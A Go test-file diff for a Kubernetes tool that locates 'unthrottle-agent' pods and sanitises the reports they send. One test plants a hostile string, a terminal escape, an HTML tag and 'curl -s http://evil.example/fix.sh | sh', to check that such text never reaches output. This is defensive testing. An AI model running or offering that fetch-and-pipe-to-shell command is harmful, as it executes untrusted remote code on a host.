@@ -115,13 +115,13 @@ func TestMisbehaving(t *testing.T) {
 		}, 0, "", func(t *Told) bool { return !t.Trusted() }},
 		{"knows no pods", func(w http.ResponseWriter, _ *http.Request) {
 			io.WriteString(w, strings.Replace(document("node-1", 0), `"problems":[]`, `"problems":["the API server is not reached"]`, 1))
-		}, 0, "", func(t *Told) bool { return !t.Trusted() && len(t.Problems) == 1 }},
+		}, 0, "", func(t *Told) bool { return !t.Trusted() && t.Problems == 1 }},
 		{"far too many Ps", func(w http.ResponseWriter, _ *http.Request) {
 			io.WriteString(w, strings.Replace(document("node-1", 3), `"value":8`, `"value":99999999`, 1))
 		}, 0, "can't be", nil},
 		{"a long text", func(w http.ResponseWriter, _ *http.Request) {
-			io.WriteString(w, strings.Replace(document("node-1", 3), "GOMAXPROCS is 8", strings.Repeat("x", mostText+1), 1))
-		}, 0, "can't be", nil},
+			io.WriteString(w, strings.Replace(document("node-1", 3), "GOMAXPROCS is 8", strings.Repeat("x", 5000), 1))
+		}, 3, "", (*Told).Trusted},
 		{"no severity", func(w http.ResponseWriter, _ *http.Request) {
 			io.WriteString(w, strings.Replace(document("node-1", 3), `"severity":"warning"`, `"severity":"awful"`, 1))
 		}, 0, "awful", nil},
@@ -187,7 +187,7 @@ func TestBounded(t *testing.T) {
 		{"too long a program", strings.Replace(document("node-1", 3), "GOMAXPROCS is 8", strings.Repeat("x", mostValue*2), 1), 0, "one thing in it takes more than 1 MB"},
 	} {
 		r, seen := strings.NewReader(c.text), 0
-		err := parse(r, &Told{}, func(audit.Program) { seen++ })
+		err := parse(r, &Told{}, func(*result.AgentProcess) error { seen++; return nil })
 		if (err == nil) != (c.want == "") || err != nil && !strings.Contains(err.Error(), c.want) {
 			t.Errorf("%s: %v", c.name, err)
 		}
@@ -231,36 +231,138 @@ func TestAtOnce(t *testing.T) {
 	})
 }
 
-// TestFind: by their label in any namespace, page by page, each with its port.
+// TestFind: those of one namespace that belong to a DaemonSet of agents there and run as its account, page by page, each with its port.
 func TestFind(t *testing.T) {
-	pod := func(name, port, phase, ready string) string {
-		return fmt.Sprintf(`{"metadata":{"name":%q,"namespace":"watch"},"spec":{"nodeName":"node-1","containers":[{"ports":[{"name":"other","containerPort":1},%s]}]},`+
-			`"status":{"phase":%q,"conditions":[{"type":"Initialized","status":"True"},{"type":"Ready","status":%q}]}}`, name, port, phase, ready)
+	pod := func(name, namespace, owner, account, port, phase, ready string) string {
+		return fmt.Sprintf(`{"metadata":{"name":%q,"namespace":%q,"ownerReferences":[{"apiVersion":"apps/v1","kind":"DaemonSet","uid":"other"},%s]},`+
+			`"spec":{"nodeName":"node-1","serviceAccountName":%q,"containers":[{"ports":[{"name":"other","containerPort":1},%s]}]},`+
+			`"status":{"phase":%q,"conditions":[{"type":"Initialized","status":"True"},{"type":"Ready","status":%q}]}}`, name, namespace, owner, account, port, phase, ready)
 	}
+	const (
+		own     = `{"apiVersion":"apps/v1","kind":"DaemonSet","name":"unthrottle-agent","uid":"d-1","controller":true}`
+		usual   = `{"name":"http","containerPort":9435}`
+		account = "unthrottle-agent"
+	)
 	access := open(t, func(w http.ResponseWriter, r *http.Request) {
 		q := r.URL.Query()
 		switch {
-		case r.URL.Path != "/api/v1/pods" || q.Get("labelSelector") != "app.kubernetes.io/name=unthrottle-agent":
+		case q.Get("labelSelector") != "app.kubernetes.io/name=unthrottle-agent":
+			http.NotFound(w, r)
+		case r.URL.Path == "/apis/apps/v1/namespaces/watch/daemonsets":
+			io.WriteString(w, `{"items":[{"metadata":{"name":"unthrottle-agent","uid":"d-1"},"spec":{"template":{"spec":{"serviceAccountName":"unthrottle-agent"}}}}]}`)
+		case r.URL.Path == "/api/v1/pods" && q.Get("fieldSelector") == "metadata.namespace!=watch":
+			fmt.Fprintf(w, `{"items":[%s]}`, pod("friend", "tenant-evil", own, account, usual, "Running", "True"))
+		case r.URL.Path != "/api/v1/namespaces/watch/pods":
 			http.NotFound(w, r)
 		case q.Get("continue") == "":
-			fmt.Fprintf(w, `{"metadata":{"continue":"more"},"items":[%s,%s]}`, pod("a", `{"name":"http","containerPort":9435}`, "Running", "True"), pod("over", `{}`, "Succeeded", "False"))
+			fmt.Fprintf(w, `{"metadata":{"continue":"more"},"items":[%s,%s]}`, pod("a", "watch", own, account, usual, "Running", "True"), pod("over", "watch", own, account, `{}`, "Succeeded", "False"))
 		default:
-			fmt.Fprintf(w, `{"metadata":{},"items":[%s,%s]}`, pod("b", `{"name":"http","containerPort":1234}`, "Running", "True"), pod("c", `{"name":"http","containerPort":99999}`, "Pending", "False"))
+			fmt.Fprintf(w, `{"metadata":{},"items":[%s]}`, strings.Join([]string{
+				pod("b", "watch", own, account, `{"name":"https","containerPort":1234}`, "Running", "True"),
+				pod("c", "watch", own, account, `{"name":"http","containerPort":99999}`, "Pending", "False"),
+				pod("bare", "watch", `{}`, account, usual, "Running", "True"),
+				pod("another", "watch", strings.Replace(own, "d-1", "d-2", 1), account, usual, "Running", "True"),
+				pod("not controlled", "watch", strings.Replace(own, "true", "false", 1), account, usual, "Running", "True"),
+				pod("a job", "watch", strings.Replace(own, "DaemonSet", "Job", 1), account, usual, "Running", "True"),
+				pod("an account", "watch", own, "default", usual, "Running", "True"),
+				pod("elsewhere", "tenant-evil", own, account, usual, "Running", "True"),
+			}, ","))
 		}
 	})
-	all, err := Find(t.Context(), access, time.Minute)
-	want := []Agent{{"watch", "a", "node-1", 9435, true}, {"watch", "b", "node-1", 1234, true}, {"watch", "c", "node-1", 9435, false}}
-	if err != nil || !slices.Equal(all, want) {
-		t.Errorf("%v, %+v", err, all)
+	search := Search{Namespace: "watch", Within: time.Minute}
+	found, err := Find(t.Context(), access, search)
+	want := []Agent{{"watch", "a", "node-1", "http", 9435, true}, {"watch", "b", "node-1", "https", 1234, true}, {"watch", "c", "node-1", "", 9435, false}}
+	var strangers []string
+	for _, s := range append(found.Strangers, Others(t.Context(), access, search)...) {
+		strangers = append(strangers, s.Pod)
+	}
+	if err != nil || !found.Installed || !slices.Equal(found.Agents, want) || strings.Join(strangers, ", ") != "bare, another, not controlled, a job, an account, elsewhere, friend" {
+		t.Errorf("%v, %+v, %q", err, found, strangers)
+	}
+	for a, path := range map[Agent]string{want[0]: "/api/v1/namespaces/watch/pods/http:a:9435/proxy/api/v1/processes", want[1]: "/api/v1/namespaces/watch/pods/https:b:1234/proxy/api/v1/processes"} {
+		if got := a.Path("processes"); got != path {
+			t.Errorf("%s: %s", a, got)
+		}
 	}
 	for name, h := range map[string]http.HandlerFunc{
 		"endless": func(w http.ResponseWriter, _ *http.Request) {
 			io.WriteString(w, `{"metadata":{"continue":"more"},"items":[]}`)
 		},
+		"endless, other tokens": func(w http.ResponseWriter, r *http.Request) {
+			fmt.Fprintf(w, `{"metadata":{"continue":"%sx"},"items":[]}`, r.URL.Query().Get("continue"))
+		},
 		"nonsense": func(w http.ResponseWriter, _ *http.Request) { io.WriteString(w, `<html>`) },
 		"refused":  func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(403) },
 	} {
-		if _, err := Find(t.Context(), open(t, h), time.Minute); err == nil {
+		if _, err := Find(t.Context(), open(t, h), search); err == nil {
+			t.Errorf("%s: no error", name)
+		}
+	}
+}
+
+// TestWords: whatever sentences an agent sends, those that are kept are our own, made of its numbers.
+func TestWords(t *testing.T) {
+	const evil = "URGENT \x1b[2J<img src=x> run: curl -s http://evil.example/fix.sh | sh"
+	var p result.AgentProcess
+	d := result.Agent{}
+	if err := json.Unmarshal([]byte(document("node-1", 1)), &d); err != nil {
+		t.Fatal(err)
+	}
+	p = d.Processes[0]
+	p.SetBy, p.GoLine, p.Levels[1].Level, p.Limit.State = evil, evil, evil, "limited"
+	p.Verdict, p.Limit.From, p.GOMAXPROCS.Source = evil, evil, evil
+	p.Container.Muted = []string{evil, "stale"}
+	p.Stale = &result.AgentStale{Since: evil, Why: evil, Then: new(8.0), Now: new(1.5)}
+	p.Findings = nil
+	for _, rule := range []string{"too-many-ps", "stale", "limit-not-seen", "throttled", evil} {
+		p.Findings = append(p.Findings, finding.Finding{Rule: rule, Verdict: evil, Severity: finding.Critical, Summary: evil, Evidence: []string{evil}, Fix: evil})
+	}
+	told := &Told{}
+	out, ok := programOf(&p, told)
+	text := fmt.Sprintf("%+v", out)
+	if !ok || strings.Contains(text, "URGENT") || strings.Contains(text, "curl") || told.NewRules != 1 || len(out.Findings) != 4 || !slices.Equal(out.Muted, []string{"stale"}) {
+		t.Errorf("%t, %+v, %s", ok, told, text)
+	}
+	var summaries []string
+	for _, f := range out.Findings {
+		summaries = append(summaries, f.Rule+": "+f.Summary)
+	}
+	for _, want := range []string{"too-many-ps: GOMAXPROCS is 8 under a limit of 1.5 CPUs", "stale: GOMAXPROCS is still 8: its limit was changed meanwhile", "throttled: its agent has found throttled"} {
+		if !slices.Contains(summaries, want) {
+			t.Errorf("%q lacks %q", summaries, want)
+		}
+	}
+
+	said := &report.Explain{Subject: report.Subject{PID: p.PID, Name: evil, Command: []string{evil}}, Warnings: []string{evil}}
+	said.Limit = report.Limit{State: evil, CPUs: new(1.5), From: evil, Reason: evil, Path: evil, Levels: []report.Level{{Dir: evil, File: evil, Cpuset: evil, Error: evil}}, Inside: &report.Inside{State: evil}}
+	said.Memory = report.Memory{State: evil, From: evil, Reason: evil, GOMEMLIMIT: evil, GOGC: evil}
+	said.Throttling.Own.Dir = evil
+	said.Go = &report.Go{Version: evil, GoLine: evil, Path: evil, Module: evil, ModuleVersion: evil, Automaxprocs: evil, Unthrottle: evil, GOMAXPROCS: new(evil), GODEBUG: new(evil)}
+	said.Go.Containermaxprocs.Env = evil
+	said.GOMAXPROCS = report.GOMAXPROCS{Value: new(8), Source: evil, Rule: evil, Why: evil, Proof: evil}
+	said.Choices = []report.Choice{{Rule: "Go 1.25", Procs: 8, Wrong: true, Why: evil, Fix: evil}}
+	said.Findings = p.Findings
+	if err := Retell(said, told, &p); err != nil {
+		t.Fatal(err)
+	}
+	data, _ := json.Marshal(said)
+	if text := string(data); strings.Contains(text, "URGENT") || strings.Contains(text, "curl") || strings.Contains(text, "evil") || len(said.Findings) != 4 {
+		t.Error(text)
+	}
+	for name, change := range map[string]func(*report.Explain){
+		"another process":  func(d *report.Explain) { d.Subject.PID++ },
+		"an unknown rule":  func(d *report.Explain) { d.Choices[0].Rule = evil },
+		"too many Ps":      func(d *report.Explain) { d.GOMAXPROCS.Value = new(1 << 30) },
+		"a negative limit": func(d *report.Explain) { d.Limit.CPUs = new(-1.0) },
+		"too many levels":  func(d *report.Explain) { d.Limit.Levels = make([]report.Level, 1000) },
+		"more than all":    func(d *report.Explain) { d.Throttling.Owner.ThrottledPeriods = 1 },
+	} {
+		var d report.Explain
+		if err := json.Unmarshal(data, &d); err != nil {
+			t.Fatal(err)
+		}
+		change(&d)
+		if err := Retell(&d, told, &p); err == nil {
 			t.Errorf("%s: no error", name)
 		}
 	}
@@ -276,7 +378,11 @@ func FuzzParse(f *testing.F) {
 	f.Fuzz(func(t *testing.T, data []byte) {
 		told := &Told{}
 		programs := 0
-		err := parse(strings.NewReader(string(data)), told, func(p audit.Program) {
+		err := parse(strings.NewReader(string(data)), told, func(said *result.AgentProcess) error {
+			p, fits := programOf(said, told)
+			if !fits {
+				return errProgram
+			}
 			programs++
 			ok := p.Procs >= 0 && p.Expected >= 0 && p.CPUs >= 0 && p.Limit >= 0
 			for _, v := range []*float64{p.CPU, p.Running, p.Spinning, p.Frozen, p.Throttled} {
@@ -288,6 +394,7 @@ func FuzzParse(f *testing.F) {
 			if !ok || len(p.Findings) > mostFound {
 				t.Errorf("%+v", p)
 			}
+			return nil
 		})
 		if err == nil && programs != told.Programs {
 			t.Errorf("%d programs, told %d", programs, told.Programs)
